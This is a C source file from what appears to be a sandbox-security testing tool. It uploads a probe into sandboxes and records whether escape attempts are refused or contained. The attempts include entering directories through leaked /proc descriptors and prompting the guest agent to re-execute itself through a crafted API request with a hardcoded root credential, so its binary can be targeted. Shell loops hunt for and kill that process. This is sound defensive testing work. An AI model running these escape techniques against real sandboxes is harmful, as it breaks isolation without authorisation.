/* atoll-probe in sandboxes: brought there, run as everybody, and its lines taken for what they are,
 * the words of a hostile place. */
#include "cli/attack.h"
#include "cli/cp.h"

#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/utsname.h>

#define PROBE_PATH "/tmp/atoll-probe"

enum {
	OUTPUT_MAX = 8 << 20,
	ARGS_MAX = 96,
	SURVEY_MAX = 16 << 10,
};

int attack_inside_prepare(struct attack *a, const struct target *target, struct err *e)
{
	cleanup_close int fd = open(a->probe, O_RDONLY | O_CLOEXEC);
	CLEANUP(buf_done) struct buf out = BUF_INIT(OUTPUT_MAX);
	char chmod_name[] = "/bin/chmod", mode[] = "755", path[] = PROBE_PATH;
	char *const argv[] = { chmod_name, mode, path, NULL };
	const struct attack_command command = { .target = target, .user = "root", .argv = argv };
	struct cp_sum sum = { 0 };
	struct stat st;
	int r;

	if (fd < 0 || fstat(fd, &st) < 0)
		return err_sys(e, -errno, "open %s", a->probe);
	r = cp_upload(a->cli, target, fd, st.st_size, PROBE_PATH, &sum, e);
	if (r == 0)
		r = attack_exec(a, &command, &out, e);
	return r > 0 ? err_set(e, -EIO, "cannot make %s executable", PROBE_PATH) : r;
}

/* ---- what the probe is told ---- */

/* The probe itself says what it would look for: what is not here either cannot be refused. */
void attack_survey(struct attack *a)
{
	CLEANUP(buf_done) struct buf out = BUF_INIT(SURVEY_MAX);
	const char *const words[] = { "--survey", NULL };
	char *list;

	if (attack_run(a, a->probe, words, &out) < 0)
		return;
	list = arena_dup(a->cli->arena, str_trim(buf_str(&out)));
	for (char *p = list; p && *p; p++)
		if (*p == '\n')
			*p = ':';
	a->lacks = list;
}

struct words {
	struct attack *attack;
	char *v[ARGS_MAX];
	size_t n;
};

static void add_word(struct words *w, const char *text)
{
	if (w->n + 1 < ARGS_MAX)
		w->v[w->n++] = arena_dup(w->attack->cli->arena, str_of(text));
}

static void add_option(struct words *w, const char *name, const char *value)
{
	if (!value[0])
		return;
	add_word(w, name);
	add_word(w, value);
}

static void add_number(struct words *w, const char *name, int value)
{
	char text[16];

	(void)snprintf(text, sizeof text, "%d", value);
	if (value)
		add_option(w, name, text);
}

static void add_scene(struct words *w)
{
	const struct attack *a = w->attack;
	const char *runtime = args_value(&a->cli->args, "runtime");
	struct utsname host;

	add_word(w, PROBE_PATH);
	add_word(w, "--inside");
	if (args_has(&a->cli->args, "nested"))
		add_word(w, "--nested");
	/* Where the sandbox is to have a kernel of its own, the probe finds out whether it has. */
	if (runtime && strcmp(runtime, "gvisor") == 0 && uname(&host) == 0)
		add_option(w, "--host-kernel", host.release);
	add_option(w, "--mark", a->mark);
	add_option(w, "--neighbour", a->neighbour_address);
	add_option(w, "--secret", a->secret);
	add_option(w, "--path", a->scratch);
	add_option(w, "--path", a->cli->config.data);
	add_option(w, "--path", a->templates);
	if (a->lacks) {
		add_word(w, "--lacks");
		add_word(w, a->lacks);
	}
	add_number(w, "--host-pid", a->canary.pid);
	add_number(w, "--canary-port", a->canary.port);
	add_number(w, "--api-port", a->api_port);
	for (size_t i = 0; i < a->n_hosts; i++)
		add_option(w, "--host", a->hosts[i]);
}

/* Between spaces; NULL: all of them. */
static void add_families(struct words *w, const char *families)
{
	struct str rest = str_of(families ? families : ""), one;

	while (families && str_split(&rest, ' ', &one)) {
		add_word(w, "--family");
		if (w->n + 1 < ARGS_MAX)
			w->v[w->n++] = arena_dup(w->attack->cli->arena, one);
	}
}

/* ---- what it says ---- */

static void take_line(struct attack *a, const struct attack_line *line, const char *as,
	const char *prefix)
{
	char name[ATTACK_NAME], title[ATTACK_TEXT];

	out_clean(line->name, name, sizeof name);
	out_clean(line->title, title, sizeof title);
	if (prefix) {
		char whole[ATTACK_NAME];

		(void)snprintf(whole, sizeof whole, "%s%.30s", prefix, name);
		memcpy(name, whole, sizeof name);
	}
	attack_say(a, name, as, line->verdict, title, "%.*s", STR_ARG(line->evidence));
}

void attack_take_lines(struct attack *a, struct str text, const char *as, const char *prefix)
{
	struct str line;
	int64_t n = 0, end = 0;

	while (str_split(&text, '\n', &line)) {
		struct attack_line l;

		if (line.n && line.p[line.n - 1] == '\r') /* a terminal's line ends */
			line.n--;
		if (attack_line_parse(line, &l) < 0)
			continue;
		if (l.end) {
			end = l.end;
			continue;
		}
		take_line(a, &l, as, prefix);
		n++;
	}
	if (end == 0 || n != end)
		attack_say(a, prefix ? prefix : "inside", as, ATTACK_INCONCLUSIVE,
			"make all attempts that there are", "%" PRId64 " of %" PRId64 " were made",
			n, end);
}

void attack_inside(struct attack *a, const struct target *target, const char *user, bool tty,
	const char *families, const char *prefix)
{
	CLEANUP(buf_done) struct buf out = BUF_INIT(OUTPUT_MAX);
	const char *as = tty ? "terminal" : user;
	struct attack_command command = { .target = target, .user = user, .tty = tty };
	struct words w = { .attack = a };
	struct err e = { 0 };
	int r;

	add_scene(&w);
	add_families(&w, families);
	command.argv = w.v;
	r = attack_exec(a, &command, &out, &e);
	if (r < 0)
		attack_say(a, prefix ? prefix : "inside", as, ATTACK_INCONCLUSIVE,
			"run the probe in a sandbox", "%s", e.msg);
	else
		attack_take_lines(a, buf_str(&out), as, prefix);
}

/* ---- working directories and the runtime's program, by the API ---- */

/* A descriptor of the guest as the working directory: it may lead to wherever the guest once was.
 */
static void try_directory(struct attack *a, const char *cwd, const char *user)
{
	CLEANUP(buf_done) struct buf out = BUF_INIT(OUTPUT_MAX);
	struct attack_command command = { .target = &a->attacker, .user = user, .cwd = cwd };
	struct words w = { .attack = a };
	struct err e = { 0 };
	struct str rest, line;
	int r;

	add_scene(&w);
	add_option(&w, "--family", "fds");
	command.argv = w.v;
	r = attack_exec(a, &command, &out, &e);
	if (r < 0) {
		/* The guest's own word: no such directory, or none that may be entered. */
		attack_say(a, "descriptors.directory", user,
			r == -EBADMSG || r == -ENOENT || r == -EACCES ? ATTACK_REFUSED
								      : ATTACK_INCONCLUSIVE,
			"start in a directory behind the guest's descriptors", "%s: %s", cwd,
			e.msg);
		return;
	}
	rest = buf_str(&out);
	while (str_split(&rest, '\n', &line)) {
		struct attack_line l;

		if (attack_line_parse(line, &l) == 0 && str_is(l.name, "fds.directory"))
			attack_say(a, "descriptors.directory", user,
				l.verdict == ATTACK_REFUSED ? ATTACK_CONTAINED : l.verdict,
				"start in a directory behind the guest's descriptors", "%s: %.*s",
				cwd, STR_ARG(l.evidence));
	}
}

/* The guest executes itself for us, and is then a process that can be looked into. */
static int start_guest_again(struct attack *a, struct err *e)
{
	static const char json[] =
		"{\"process\":{\"cmd\":\"/proc/self/exe\",\"args\":"
		"[\"--listen\",\"unix:/tmp/atoll-probe-guest\"]},\"stdin\":false}";
	CLEANUP(buf_done) struct buf request = BUF_INIT(8192);

	(void)buf_printf(&request,
		"POST /process.Process/Start HTTP/1.1\r\nHost: localhost\r\n"
		"E2b-Sandbox-Id: %s\r\nE2b-Sandbox-Port: 49983\r\nX-Access-Token: %s\r\n"
		"Authorization: Basic cm9vdDo=\r\nContent-Type: application/connect+json\r\n"
		"Connect-Protocol-Version: 1\r\nContent-Length: %zu\r\n\r\n",
		a->attacker.id, a->attacker.token, sizeof json - 1 + 5);
	(void)buf_addc(&request, 0);
	(void)buf_addc(&request, 0);
	(void)buf_addc(&request, 0);
	(void)buf_addc(&request, (char)((sizeof json - 1) >> 8));
	(void)buf_addc(&request, (char)((sizeof json - 1) & 0xff));
	(void)buf_add(&request, json, sizeof json - 1);
	return attack_dial(a, buf_str(&request), e);
}

/* It is not there: the stream must say that it was not started, or that it ended, and how. */
static void judge_refusal(struct attack *a, int fd, const char *title)
{
	char text[2048] = "";
	ssize_t n = recv(fd, text, sizeof text - 1, MSG_DONTWAIT);
	bool ended;

	for (ssize_t i = 0; i < n; i++)
		if (text[i] == '\0')
			text[i] = ' ';
	ended = strstr(text, "\"end\"") || strstr(text, "\"error\"");
	attack_say(a, "descriptors.reexecute", "root", ended ? ATTACK_REFUSED : ATTACK_INCONCLUSIVE,
		title, "the guest's program does not run a second time: %.120s",
		ended ? strchr(text, '{') : "and nobody says why");
}

static void write_guest(struct attack *a)
{
	static const char title[] = "have the guest execute itself, and write that program";
	CLEANUP(buf_done) struct buf out = BUF_INIT(OUTPUT_MAX);
	struct err e = { 0 };
	cleanup_close int fd = start_guest_again(a, &e);
	int r;

	if (fd < 0) {
		attack_say(a, "descriptors.reexecute", "root", ATTACK_INCONCLUSIVE, title, "%s",
			e.msg);
		return;
	}
	r = attack_shell(a, &a->attacker, "root",
		"for i in $(seq 40); do for p in /proc/[0-9]*; do [ $p = /proc/1 ] && continue;"
		" { readlink $p/exe; cat $p/comm; } 2>/dev/null | grep -q -e memfd -e ^exe$ &&"
		" exit 0; done;"
		" sleep 0.05; done; exit 1",
		&out, &e);
	if (r < 0) {
		attack_say(a, "descriptors.reexecute", "root", ATTACK_INCONCLUSIVE, title, "%s",
			e.msg);
	} else if (r > 0) {
		judge_refusal(a, fd, title);
	} else {
		size_t from = a->n;

		attack_inside(a, &a->attacker, "root", false, "fds", "again-");
		attack_inside(a, &a->attacker, "user", false, "fds", "again-");
		attack_fold(a, from, "descriptors.reexecute", "root", title);
	}
	(void)attack_shell(a, &a->attacker, "root",
		"for p in /proc/[0-9]*; do [ $p = /proc/1 ] || ! { readlink $p/exe; cat $p/comm; } "
		"|"
		" grep -q -e memfd -e ^exe$ || kill ${p#/proc/}; done 2>/dev/null",
		&out, &e);
}

void attack_descriptors(struct attack *a)
{
	static const char *const directories[] = { "/proc/self/fd/3", "/proc/self/fd/4",
		"/proc/self/fd/5", "/proc/self/fd/6", "/proc/self/fd/7", "/proc/self/fd/8",
		"/proc/self/fd/9", "/proc/self/fd/10", "/proc/1/cwd", "/proc/1/root",
		"/proc/self/cwd/..", "/proc/self/root/.." };

	for (size_t i = 0; i < ARRAY_SIZE(directories); i++) {
		try_directory(a, directories[i], "user");
		try_directory(a, directories[i], "root");
	}
	write_guest(a);
}
